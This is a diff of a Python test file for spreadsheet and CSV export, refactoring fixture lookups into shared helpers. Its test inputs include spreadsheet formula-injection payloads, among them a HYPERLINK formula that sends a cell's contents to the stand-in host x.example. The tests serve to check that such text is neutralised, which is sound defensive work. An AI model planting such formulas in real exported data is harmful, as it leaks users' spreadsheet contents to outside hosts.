@@ -11,13 +11,12 @@ from openpyxl import Workbook, load_workbook
 
 from models.aid import AidItem
 from models.participant import Participant
-from models.programme import Day, Programme, ProgrammeKind
 from models.spreadsheet import csv_cell, workbook_bytes
 from store.skills import day_skills
 from ui.documents.import_template import template_csv, template_xlsx
 from ui.runtime import runtime
 
-from .conftest import COORDINATOR, log_in
+from .conftest import COORDINATOR, demo_day, demo_programme, log_in
 
 RUNNABLE = ['=HYPERLINK("http://x.example/?"&A1,"klik")', '+62 812 Ani', '-Ani-', '@SUM(A1:A9)']
 SKILL = '=1+1 Bolu kukus'
@@ -46,8 +45,8 @@ def test_a_workbook_keeps_text_that_looks_like_a_formula_as_text() -> None:
 
 async def plant() -> dict[str, str]:
     store = await runtime.ready()
-    kue = next(p for p in store.all(Programme) if p.kind == ProgrammeKind.KUE)
-    day = next(d for d in store.by_index(Day, 'programme', kue.id) if d.number == 1)
+    kue = demo_programme(store)
+    day = demo_day(store, kue)
     people = [store.get(Participant, i) for i in kue.participant_ids[: len(RUNNABLE)]]
     renamed = [
         p.model_copy(update={'name': name, 'village': name}) for p, name in zip(people, RUNNABLE, strict=True) if p
